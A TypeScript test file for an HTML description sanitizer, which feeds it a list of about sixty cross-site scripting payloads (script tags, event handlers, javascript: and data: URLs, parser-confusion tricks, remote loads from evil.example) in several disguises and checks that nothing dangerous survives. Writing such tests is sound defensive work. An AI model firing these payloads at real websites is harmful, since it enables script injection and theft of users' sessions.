import { Window } from 'happy-dom'
import { describe, expect, it } from 'vitest'
import { cleanDescription } from './description.ts'

const script = 'alert(1)'
const attacks = [
  `<script>${script}</script>`,
  `<script src=//evil.example/x.js></script>`,
  `<scr<script>ipt>${script}</scr</script>ipt>`,
  `<script/x>${script}</script>`,
  `<img src=x onerror=${script}>`,
  `<img src="x" onerror="${script}" />`,
  `<img/src/onerror=${script}>`,
  `<image src=x onerror=${script}>`,
  `<svg onload=${script}>`,
  `<svg><script>${script}</script></svg>`,
  `<svg><animate onbegin=${script} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${script}"><text>x</text></a></svg>`,
  `<math><mtext></p><style><!--</style><img title="--&gt;&lt;img src=x onerror=${script}&gt;">`,
  `<math href="javascript:${script}">x</math>`,
  `<body onload=${script}>`,
  `<iframe src="javascript:${script}"></iframe>`,
  `<iframe srcdoc="<script>${script}</script>"></iframe>`,
  `<object data="javascript:${script}"></object>`,
  `<embed src="javascript:${script}">`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<meta http-equiv=refresh content="0;url=javascript:${script}">`,
  `<base href="//evil.example/">`,
  `<form action="javascript:${script}"><button>x</button></form>`,
  `<button formaction="javascript:${script}">x</button>`,
  `<input autofocus onfocus=${script}>`,
  `<textarea autofocus onfocus=${script}></textarea>`,
  `<details open ontoggle=${script}>`,
  `<video><source onerror=${script}></video>`,
  `<audio src=x onerror=${script}>`,
  `<marquee onstart=${script}>`,
  `<keygen autofocus onfocus=${script}>`,
  `<a href="javascript:${script}">x</a>`,
  `<a href="JaVaScRiPt:${script}">x</a>`,
  `<a href="&#106;avascript:${script}">x</a>`,
  `<a href="java\tscript:${script}">x</a>`,
  `<a href="java\nscript:${script}">x</a>`,
  `<a href=" javascript:${script}">x</a>`,
  `<a href="\u0001javascript:${script}">x</a>`,
  `<a href="data:text/html,<script>${script}</script>">x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<a href="//evil.example">x</a>`,
  `<a href="/api/user/logged-out">x</a>`,
  `<a href="http://evil.example">x</a>`,
  `<a href="blob:https://x/1">x</a>`,
  `<a href="https://ok.example" onclick=${script}>x</a>`,
  `<a href="https://ok.example" target=_blank style="position:fixed">x</a>`,
  `<p style="background:url(javascript:${script})">x</p>`,
  `<p style="behavior:url(#x)">x</p>`,
  `<p onmouseover=${script}>x</p>`,
  `<p id=x class=y name=z data-x=1>x</p>`,
  `<p dir="javascript:${script}">x</p>`,
  `<style>@import '//evil.example/x.css';</style>`,
  `<style>*{background:url('//evil.example')}</style>`,
  `<noscript><p title="</noscript><img src=x onerror=${script}>">`,
  `<template><script>${script}</script></template>`,
  `<xmp><p title="</xmp><script>${script}</script>">`,
  `<plaintext><script>${script}</script>`,
  `<!--><script>${script}</script-->`,
  `<![CDATA[<script>${script}</script>]]>`,
  `<?xml version="1.0"?><script>${script}</script>`,
  `<isindex action=javascript:${script} type=image>`,
]

const disguises: Array<(attack: string) => string> = [
  (attack) => attack,
  (attack) => attack.toUpperCase(),
  (attack) => `<p>${attack}</p>`,
  (attack) => `<ul><li><strong>${attack}`,
  (attack) => attack.replace('<', '<\u0000'),
  (attack) => attack.replaceAll(' ', '/'),
  (attack) => `"'>${attack}`,
]

const allowedTags = [
  'P',
  'BR',
  'STRONG',
  'EM',
  'U',
  'S',
  'H2',
  'H3',
  'UL',
  'OL',
  'LI',
  'BLOCKQUOTE',
  'HR',
  'A',
]

const { document } = new Window()

/** The unsafe parts that an independent parser still finds. */
function listDangers(html: string): string[] {
  document.body.innerHTML = html
  return [...document.body.querySelectorAll('*')].flatMap((element) => [
    ...(allowedTags.includes(element.tagName) ? [] : [element.tagName]),
    ...[...element.attributes]
      .filter(({ name, value }) => !isHarmless(element.tagName, name, value ?? ''))
      .map(({ name, value }) => `${name}=${value}`),
  ])
}

const isHarmless = (tag: string, name: string, value: string): boolean =>
  (name === 'dir' && ['ltr', 'rtl', 'auto'].includes(value)) ||
  (tag === 'A' && name === 'rel' && value === 'nofollow noopener') ||
  (tag === 'A' && name === 'href' && /^(https:\/\/|mailto:)/i.test(value))

describe('Our product', () => {
  it('allows only text and a few marks in a description', () => {
    const sent = attacks.flatMap((attack) => disguises.map((disguise) => disguise(attack)))
    expect(sent.length).toBeGreaterThan(400)
    expect(sent.filter((html) => listDangers(html).length > 0).length).toBeGreaterThan(250)
    expect(
      sent
        .map((html) => ({ html, found: listDangers(cleanDescription(html)) }))
        .filter(({ found }) => found.length > 0),
    ).toEqual([])
  }, 20_000)

  it.each([
    [
      '<p>Dinner <b>follows</b> <i>on the terrace</i>.</p>',
      '<p>Dinner <strong>follows</strong> <em>on the terrace</em>.</p>',
    ],
    [
      '<h1>The evening</h1><ul><li>Baraat</li></ul>',
      '<h2>The evening</h2><ul><li>Baraat</li></ul>',
    ],
    ['<p dir="rtl">أهلا وسهلا</p>', '<p dir="rtl">أهلا وسهلا</p>'],
    [
      '<a href="https://maps.example/?q=1&amp;z=2" target="_blank">map</a>',
      '<a href="https://maps.example/?q=1&amp;z=2" rel="nofollow noopener">map</a>',
    ],
    [
      '<a href="mailto:asha@mehfil.example">write</a>',
      '<a href="mailto:asha@mehfil.example" rel="nofollow noopener">write</a>',
    ],
    ['<a href="javascript:alert(1)">x</a>', '<a>x</a>'],
    ['a < b & c', 'a &lt; b &amp; c'],
    ['<p></p>', ''],
    ['<p><br></p>', ''],
    ['  ', ''],
    ['<p>&nbsp;</p>', ''],
    ['<hr>', '<hr />'],
    ['tab\tline\nbell\u0007null\u0000', 'tab\tline\nbellnull'],
    ['half \ud83d a face', 'half \ufffd a face'],
  ])('turns %j into %j', (sent, kept) => {
    expect(cleanDescription(sent)).toBe(kept)
  })

  it('changes nothing when it cleans a text again', () => {
    for (const attack of attacks)
      expect(cleanDescription(cleanDescription(attack))).toBe(cleanDescription(attack))
  })

  it('cleans the longest and the deepest text quickly', () => {
    const before = performance.now()
    cleanDescription('<b>'.repeat(6_666))
    cleanDescription('<'.repeat(20_000))
    cleanDescription('<a href="'.repeat(2_200))
    expect(performance.now() - before).toBeLessThan(1_000)
  })
})
